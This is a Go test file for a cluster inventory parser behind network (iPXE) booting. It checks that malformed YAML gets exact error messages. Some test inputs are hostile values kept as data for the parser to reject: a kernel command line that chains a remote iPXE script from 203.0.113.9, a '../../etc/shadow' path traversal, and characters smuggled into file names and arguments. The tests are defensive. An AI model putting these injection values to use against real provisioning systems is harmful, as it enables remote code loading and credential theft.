package inventory

import (
	"strings"
	"testing"
)

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP1S391aNfXIQhJrIcf2eIfV+k8UoKpKSuadczO6wFaC admin@example"

// net is a valid networks section (lines 1-6) that cases build on.
const netYAML = `networks:
  - name: lab
    subnet: 198.18.0.0/24
    server: 198.18.0.1
    gateway: 198.18.0.254
    dynamic: 198.18.0.200-198.18.0.250
`

func TestBadInventories(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string // one full error line
	}{
		{"unknown top field", "nodez: []\n", `cluster.yaml:1: nodez: unknown field "nodez"`},
		{"unknown node field", "nodes:\n  - name: cn1\n    moed: trap\n", `cluster.yaml:3: nodes[0].moed: unknown field "moed"`},
		{"unknown interface field", "nodes:\n  - name: cn1\n    interfaces:\n      - mak: 52:54:00:00:00:01\n", `cluster.yaml:4: nodes[0].interfaces[0].mak: unknown field "mak"`},
		{"nodes not a list", "nodes: {}\n", `cluster.yaml:1: nodes: want a list, got a mapping`},
		{"top not a mapping", "- a\n", `cluster.yaml:1: want a mapping, got a list`},
		{"invalid mode", "defaults:\n  mode: fly\n", `cluster.yaml:2: defaults.mode: unknown mode "fly"`},
		{"bmc address name", "nodes:\n  - name: cn1\n    bmc_address: bmc-cn1\n", `cluster.yaml:3: nodes[0].bmc_address: BMC address "bmc-cn1": want IPv4 ADDR or ADDR:PORT`},
		{"bmc address v6", "defaults:\n  bmc_address: \"[::1]:623\"\n", `cluster.yaml:2: defaults.bmc_address: BMC address "[::1]:623": want IPv4 ADDR or ADDR:PORT`},
		{"bmc user long", "groups:\n  - name: g\n    bmc_user: administrator-of-all\n", `cluster.yaml:3: groups[0].bmc_user: BMC user "administrator-of-all": at most 16 characters (IPMI limit)`},
		{"bmc user space", "defaults:\n  bmc_user: a b\n", `cluster.yaml:2: defaults.bmc_user: BMC user "a b": want printable ASCII without spaces`},
		{"bmc password value", "defaults:\n  bmc_password: \"p@ss word\"\n", `cluster.yaml:2: defaults.bmc_password: want a secret name`},
		{"bad transport", "defaults:\n  transport: nfs\n", `cluster.yaml:2: defaults.transport: transport "nfs": want http or torrent`},
		{"null attr", "defaults:\n  mode:\n", `cluster.yaml:2: defaults.mode: want a string, got null`},
		{"bool kernel", "defaults:\n  kernel: true\n", `cluster.yaml:2: defaults.kernel: want a string, got a boolean`},
		{"ssh_keys not list", "defaults:\n  ssh_keys: " + key + "\n", `cluster.yaml:2: defaults.ssh_keys: want a list, got`},
		{"bad ssh key", "groups:\n  - name: g\n    ssh_keys:\n      - ssh-ed25519 AAAAnotakey x\n", `cluster.yaml:4: groups[0].ssh_keys[0]: invalid SSH public key`},
		{"kernel traversal", "defaults:\n  kernel: ../../etc/shadow\n", `cluster.yaml:2: defaults.kernel: want a clean relative file name, got "../../etc/shadow"`},
		{"cmdline newline", "defaults:\n  cmdline: \"quiet\\nshell\"\n", `cluster.yaml:2: defaults.cmdline: control character '\n' not allowed`},
		// iPXE injection (issue #14): every value that reaches the boot script.
		{"cmdline chains a URL", "defaults:\n  cmdline: \"quiet ; chain http://203.0.113.9/x.ipxe ; #\"\n",
			`cluster.yaml:2: defaults.cmdline: token ";": character ';' not allowed in a kernel argument`},
		{"cmdline comment", "groups:\n  - name: g\n    cmdline: \"quiet #\"\n", `cluster.yaml:3: groups[0].cmdline: token "#": character '#'`},
		{"cmdline expansion", "nodes:\n  - name: cn1\n    cmdline: x=${net0/ip}\n", `cluster.yaml:3: nodes[0].cmdline: token "x=${net0/ip}": character '$'`},
		{"cmdline backslash", "defaults:\n  cmdline: 'a \\'\n", `cluster.yaml:2: defaults.cmdline: token "\\": character '\\'`},
		{"cmdline pipe", "defaults:\n  cmdline: a|b\n", `cluster.yaml:2: defaults.cmdline: token "a|b": character '|'`},
		{"cmdline quote", "defaults:\n  cmdline: 'a=\"b'\n", `cluster.yaml:2: defaults.cmdline: unpaired double quote`},
		{"kernel semicolon", "defaults:\n  kernel: \"vmlinuz;x\"\n", `cluster.yaml:2: defaults.kernel: file name "vmlinuz;x" contains ';'`},
		{"initrd hash", "defaults:\n  initrd: \"trap#x\"\n", `cluster.yaml:2: defaults.initrd: file name "trap#x" contains '#'`},
		{"initrd expansion", "defaults:\n  initrd: \"${x}\"\n", `cluster.yaml:2: defaults.initrd: file name "${x}" contains '$'`},
		{"duplicate key", "defaults:\n  kernel: a\n  kernel: b\n", `cluster.yaml:3: defaults.kernel: duplicate key (first at line 2)`},
		{"merge key", "defaults: &d\n  kernel: a\ngroups:\n  - name: g\n    <<: *d\n", `cluster.yaml:5: groups[0].<<: merge keys (<<) are not supported`},
		{"syntax", "nodes:\n  - name: cn1\n   bad: [\n", `cluster.yaml:1: yaml: did not find expected '-' indicator`},
		{"syntax tab", "nodes:\n\t- name: cn1\n", `cluster.yaml:2: yaml: found character that cannot start any token`},
		{"two documents", "nodes: []\n---\nnodes: []\n", `cluster.yaml:2: more than one YAML document`},
		{"bad mac", netYAML + "nodes:\n  - name: cn1\n    interfaces:\n      - mac: \"52:54:00:00:00:01\"\n  - name: login1\n    interfaces:\n      - mac: zz\n",
			`cluster.yaml:13: nodes[1].interfaces[0].mac: invalid MAC "zz"`},
		{"bad mac in range", "nodes:\n  - name: cn[1-2]\n    interfaces:\n      - mac: \"52:54:00:00:00:{index}00\"\n",
			`cluster.yaml:4: nodes[0].interfaces[0].mac: node cn1: invalid MAC "52:54:00:00:00:100"`},
		{"missing mac", "nodes:\n  - name: cn1\n    interfaces:\n      - ip: 198.18.0.9\n", `cluster.yaml:4: nodes[0].interfaces[0].mac: missing (required)`},
		{"missing name", "nodes:\n  - groups: []\n", `cluster.yaml:2: nodes[0].name: missing (required)`},
		{"bad range", "nodes:\n  - name: cn[10-1]\n", `cluster.yaml:2: nodes[0].name: item "cn[10-1]": reversed range 10-1`},
		{"uppercase name", "nodes:\n  - name: CN1\n", `cluster.yaml:2: nodes[0].name: item "CN1": uppercase 'C'`},
		{"duplicate node", "nodes:\n  - name: cn[1-2]\n  - name: cn2\n", `cluster.yaml:3: nodes[1].name: duplicate node cn2 (also defined at line 2)`},
		{"duplicate mac", "nodes:\n  - name: a1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n  - name: b1\n    interfaces:\n      - mac: 52-54-00-00-00-01\n",
			`cluster.yaml:7: nodes[1].interfaces[0].mac: duplicate MAC 52:54:00:00:00:01 (also node a1 at line 4)`},
		{"duplicate ip", netYAML + "nodes:\n  - name: cn[1-2]\n    interfaces:\n      - mac: 52:54:00:00:00:0{index}\n        ip: 198.18.0.{index+1}\n  - name: x1\n    interfaces:\n      - mac: 52:54:00:00:01:01\n        ip: 198.18.0.3\n",
			`cluster.yaml:15: nodes[1].interfaces[0].ip: duplicate IP 198.18.0.3 (also node cn2 at line 11)`},
		{"same literal mac for range", "nodes:\n  - name: cn[1-3]\n    interfaces:\n      - mac: 52:54:00:00:00:01\n",
			`cluster.yaml:4: nodes[0].interfaces[0].mac: the same MAC "52:54:00:00:00:01" for all 3 nodes of cn[1-3]; use a template such as {index:02x}`},
		{"same literal ip for range", netYAML + "nodes:\n  - name: cn[1-2]\n    interfaces:\n      - mac: 52:54:00:00:00:0{index}\n        ip: 198.18.0.9\n",
			`cluster.yaml:11: nodes[0].interfaces[0].ip: the same IP "198.18.0.9" for all 2 nodes of cn[1-2]`},
		{"index without number", "nodes:\n  - name: login\n    interfaces:\n      - mac: 52:54:00:00:00:{index:02x}\n",
			`cluster.yaml:4: nodes[0].interfaces[0].mac: {index} needs a node name ending in a number, got "login"`},
		{"bad template", "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:{idx}\n",
			`cluster.yaml:4: nodes[0].interfaces[0].mac: bad placeholder {idx}`},
		{"rack index collision", "nodes:\n  - name: rack[1-2]n1\n    interfaces:\n      - mac: 52:54:00:00:00:{index:02x}\n",
			`cluster.yaml:4: nodes[0].interfaces[0].mac: node rack2n1: duplicate MAC 52:54:00:00:00:01 (also node rack1n1 at line 4)`},
		{"unknown group", "nodes:\n  - name: cn1\n    groups: [compute]\n", `cluster.yaml:3: nodes[0].groups[0]: unknown group "compute"`},
		{"unknown inherit", "groups:\n  - name: a\n    inherit: [b]\n", `cluster.yaml:3: groups[0].inherit[0]: unknown group "b"`},
		{"cycle", "groups:\n  - name: a\n    inherit: [b]\n  - name: b\n    inherit: [c]\n  - name: c\n    inherit:\n      - a\n",
			`cluster.yaml:8: groups[2].inherit[0]: inheritance cycle a > b > c > a`},
		{"self cycle", "groups:\n  - name: a\n    inherit: [a]\n", `cluster.yaml:3: groups[0].inherit[0]: inheritance cycle a > a`},
		{"duplicate group", "groups:\n  - name: a\n  - name: a\n", `cluster.yaml:3: groups[1].name: duplicate group "a" (first at line 2)`},
		{"bad group name", "groups:\n  - name: \"a b\"\n", `cluster.yaml:2: groups[0].name: invalid group name "a b"`},
		{"unknown network", "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        network: nope\n",
			`cluster.yaml:5: nodes[0].interfaces[0].network: unknown network "nope"`},
		{"ip outside subnet", netYAML + "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        network: lab\n        ip: 198.18.1.5\n",
			`cluster.yaml:12: nodes[0].interfaces[0].ip: ip 198.18.1.5 is outside network lab (198.18.0.0/24)`},
		{"ip in no network", netYAML + "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        ip: 10.0.0.1\n",
			`cluster.yaml:11: nodes[0].interfaces[0].ip: ip 10.0.0.1 is in no network of the inventory`},
		{"ip in pool", netYAML + "nodes:\n  - name: cn[1-2]\n    interfaces:\n      - mac: 52:54:00:00:00:0{index}\n        ip: 198.18.0.{index+209}\n",
			`cluster.yaml:11: nodes[0].interfaces[0].ip: node cn1: ip 198.18.0.210 is inside network lab's dynamic pool 198.18.0.200-198.18.0.250`},
		{"ip is server", netYAML + "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        ip: 198.18.0.1\n",
			`cluster.yaml:11: nodes[0].interfaces[0].ip: ip 198.18.0.1 is network lab's server or gateway`},
		{"ip is broadcast", netYAML + "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        ip: 198.18.0.255\n",
			`cluster.yaml:11: nodes[0].interfaces[0].ip: ip 198.18.0.255 is the network or broadcast address of 198.18.0.0/24`},
		{"two boot interfaces", "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        boot: true\n      - mac: 52:54:00:00:00:02\n        boot: true\n",
			`cluster.yaml:7: nodes[0].interfaces[1].boot: more than one interface has boot: true`},
		{"boot not bool", "nodes:\n  - name: cn1\n    interfaces:\n      - mac: 52:54:00:00:00:01\n        boot: yes\n",
			`cluster.yaml:5: nodes[0].interfaces[0].boot: want true or false, got "yes"`},
		{"subnet host bits", "networks:\n  - name: n\n    subnet: 198.18.0.1/24\n    server: 198.18.0.1\n",
			`cluster.yaml:3: networks[0].subnet: subnet 198.18.0.1/24 has host bits set (did you mean 198.18.0.0/24?)`},
		{"ipv6 subnet", "networks:\n  - name: n\n    subnet: fd00::/64\n    server: 198.18.0.1\n", `cluster.yaml:3: networks[0].subnet: invalid IPv4 subnet "fd00::/64"`},
		{"missing server", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n", `cluster.yaml:2: networks[0].server: missing (required)`},
		{"bad lease", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n    server: 198.18.0.1\n    lease: forever\n",
			`cluster.yaml:5: networks[0].lease: invalid lease "forever"`},
		{"gateway outside", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n    server: 198.18.0.1\n    gateway: 198.18.1.1\n",
			`cluster.yaml:5: networks[0].gateway: gateway 198.18.1.1 is outside subnet 198.18.0.0/24`},
		{"pool outside", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n    server: 198.18.0.1\n    dynamic: 198.18.0.10-198.18.1.10\n",
			`cluster.yaml:5: networks[0].dynamic: pool 198.18.0.10-198.18.1.10 is not inside subnet 198.18.0.0/24`},
		{"pool reversed", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n    server: 198.18.0.1\n    dynamic: 198.18.0.20-198.18.0.10\n",
			`cluster.yaml:5: networks[0].dynamic: reversed pool "198.18.0.20-198.18.0.10"`},
		{"pool has server", "networks:\n  - name: n\n    subnet: 198.18.0.0/24\n    server: 198.18.0.1\n    dynamic: 198.18.0.1-198.18.0.10\n",
			`cluster.yaml:5: networks[0].dynamic: pool 198.18.0.1-198.18.0.10 contains the server address 198.18.0.1`},
		{"duplicate network", netYAML + "  - name: lab\n    subnet: 198.19.0.0/24\n    server: 198.19.0.1\n",
			`cluster.yaml:7: networks[1].name: duplicate network "lab" (first at line 2)`},
		{"overlapping networks", netYAML + "  - name: lab2\n    subnet: 198.18.0.128/25\n    server: 198.18.0.129\n",
			`cluster.yaml:8: networks[1].subnet: subnet 198.18.0.128/25 overlaps network lab (198.18.0.0/24)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Parse("cluster.yaml", []byte(tt.in))
			if err == nil {
				t.Fatalf("Parse(%q) = %d nodes, want error %q", tt.in, len(c.Nodes()), tt.want)
			}
			if c != nil {
				t.Errorf("Parse(%q) returned a cluster along with error %v", tt.in, err)
			}
			found := false
			for _, line := range strings.Split(err.Error(), "\n") {
				found = found || strings.HasPrefix(line, tt.want)
			}
			if !found {
				t.Errorf("Parse(%q) error =\n%v\nwant a line starting with\n%s", tt.in, err, tt.want)
			}
		})
	}
}

func TestErrorCap(t *testing.T) {
	var b strings.Builder
	b.WriteString("nodes:\n")
	for range 15 {
		b.WriteString("  - name: cn1\n    mode: fly\n")
	}
	_, err := Parse("cluster.yaml", []byte(b.String()))
	if err == nil {
		t.Fatal("Parse of 15 bad entries = nil error")
	}
	lines := strings.Split(err.Error(), "\n")
	if len(lines) != maxErrors+1 || lines[maxErrors] != "cluster.yaml: 5 more errors not shown" {
		t.Errorf("error has %d lines, last %q; want %d errors and a count of 5 more", len(lines), lines[len(lines)-1], maxErrors)
	}
}
